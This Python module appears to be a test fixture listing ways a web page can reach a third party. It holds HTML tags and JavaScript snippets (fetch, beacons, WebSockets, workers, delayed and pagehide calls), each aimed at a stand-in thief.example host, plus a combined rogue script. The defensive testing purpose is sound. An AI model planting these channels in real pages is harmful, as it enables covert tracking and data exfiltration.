"""Ways in which a page can contact a third party: each its own host, so that the wire
tells them apart.
"""

from collections.abc import Mapping


def host(way: str) -> str:
    return f"{way}.thief.example"


def _filled(ways: Mapping[str, str]) -> dict[str, str]:
    return {
        name: text.replace("TO", f"https://{host(name)}/x").replace("HOST", host(name))
        for name, text in ways.items()
    }


HEAD = _filled(
    {
        "link-preconnect": '<link rel="preconnect" href="TO">',
        "link-prefetch": '<link rel="prefetch" href="TO">',
        "link-preload-image": '<link rel="preload" as="image" href="TO.png">',
        "link-preload-script": '<link rel="preload" as="script" href="TO.js">',
        "link-preload-font": '<link rel="preload" as="font" crossorigin href="TO.woff2">',
        "link-preload-fetch": '<link rel="preload" as="fetch" crossorigin href="TO">',
        "link-modulepreload": '<link rel="modulepreload" href="TO.js">',
        "link-stylesheet": '<link rel="stylesheet" href="TO.css">',
        "link-stylesheet-print": '<link rel="stylesheet" media="print" href="TO.css">',
        "style-import": '<style>@import "TO.css";</style>',
        "script-src": '<script src="TO.js"></script>',
        "script-async": '<script async src="TO.js"></script>',
        "script-module": '<script type="module" src="TO.js"></script>',
    }
)

BODY = _filled(
    {
        "img": '<img alt="" src="TO.gif">',
        "img-srcset": '<img alt="" srcset="TO.gif 1x">',
        "picture": '<picture><source srcset="TO.gif"><img alt=""></picture>',
        "input-image": '<input type="image" alt="" src="TO.gif">',
        "svg-image": '<svg width="9" height="9"><image href="TO.png" width="9" height="9"/></svg>',
        "video-src": '<video preload="auto" src="TO.mp4"></video>',
        "video-poster": '<video poster="TO.png"></video>',
        "video-source": '<video preload="auto"><source src="TO.mp4" type="video/mp4"></video>',
        "audio": '<audio preload="auto" src="TO.mp3"></audio>',
        "iframe": '<iframe title="" src="TO"></iframe>',
        "iframe-srcdoc": '<iframe title="" srcdoc="<img src=TO.gif>"></iframe>',
        "embed": '<embed src="TO">',
        "object": '<object data="TO"></object>',
        "style-attribute": '<p style="background: url(TO.png)">Words</p>',
        "style-element": "<style>.thief-style { background: url(TO.png) }</style><p "
        "class=thief-style>Words</p>",
        "body-background": '<table background="TO.png"><tr><td>Words</td></tr></table>',
        "style-font": "<style>@font-face { font-family: thief; src: url(TO.woff2) } .f { "
        "font-family: thief }</style>"
        '<p class="f">Words</p>',
        "noscript-img": '<noscript><img alt="" src="TO.gif"></noscript>',
    }
)

# What a script of the site's own can do, when somebody got at it.
SCRIPT = _filled(
    {
        "fetch": 'fetch("TO")',
        "fetch-keepalive": 'fetch("TO", { keepalive: true, method: "POST", mode: "no-cors" })',
        "xhr": '{ const r = new XMLHttpRequest(); r.open("GET", "TO"); r.send() }',
        "beacon": 'navigator.sendBeacon("TO")',
        "new-image": 'new Image().src = "TO.gif"',
        "websocket": 'new WebSocket("wss://HOST/x")',
        "event-source": 'new EventSource("TO")',
        "import": 'import("TO.js")',
        "add-script": 'document.head.append(Object.assign(document.createElement("script"), { '
        'src: "TO.js" }))',
        "add-style": 'document.head.append(Object.assign(document.createElement("link"), '
        '{ rel: "stylesheet", href: "TO.css" }))',
        "add-prefetch": 'document.head.append(Object.assign(document.createElement("link"), '
        '{ rel: "prefetch", href: "TO" }))',
        "add-preconnect": 'document.head.append(Object.assign(document.createElement("link"), '
        '{ rel: "preconnect", href: "TO" }))',
        "add-frame": 'document.body.append(Object.assign(document.createElement("iframe"), { '
        'src: "TO" }))',
        "add-markup": 'document.body.insertAdjacentHTML("beforeend", "<img alt src=TO.gif>")',
        "adopted-style": "{ const s = new CSSStyleSheet(); "
        's.replaceSync("body { background-image: url(TO.png) }"); '
        "document.adoptedStyleSheets = [s] }",
        "style-property": 'document.documentElement.style.backgroundImage = "url(TO.png)"',
        "font-face": 'new FontFace("thief", "url(TO.woff2)").load()',
        "audio-object": 'new Audio("TO.mp3").load()',
        "frame-fetch": '{ const f = document.createElement("iframe"); document.body.append(f); '
        'f.contentWindow.fetch("TO") }',
        "blob-worker": 'new Worker(URL.createObjectURL(new Blob([`fetch("https://HOST/x")`])))',
        "own-worker": 'new Worker("/worker.js?https://HOST/x")',
        "form": '{ const f = document.createElement("form"); const g = '
        'document.createElement("iframe"); g.name = "g"; '
        'document.body.append(f, g); f.action = "TO"; f.target = "g"; f.submit() }',
        "late": 'setTimeout(() => fetch("TO"), 45000)',
        "unload-beacon": 'addEventListener("pagehide", () => navigator.sendBeacon("TO"))',
        "hidden-fetch": 'document.addEventListener("visibilitychange", () => fetch("TO", { '
        "keepalive: true }))",
    }
)
ROGUE_SCRIPT = "\n".join(f"try {{ {text} }} catch {{}}" for text in SCRIPT.values())
WORKER = (
    "const target = location.search.slice(1); fetch(target).catch(() => {}); "
    "try { importScripts(target) } catch {}"
)
WAYS = frozenset({*HEAD, *BODY, *SCRIPT})


def with_ways(html: str) -> str:
    """A page with all of them in it, where each belongs."""
    head, body = "".join(HEAD.values()), "".join(BODY.values())
    rogue = '<script defer src="/rogue.js"></script>'
    return html.replace("</head>", f"{head}{rogue}</head>", 1).replace(
        "</body>", f"{body}</body>", 1
    )
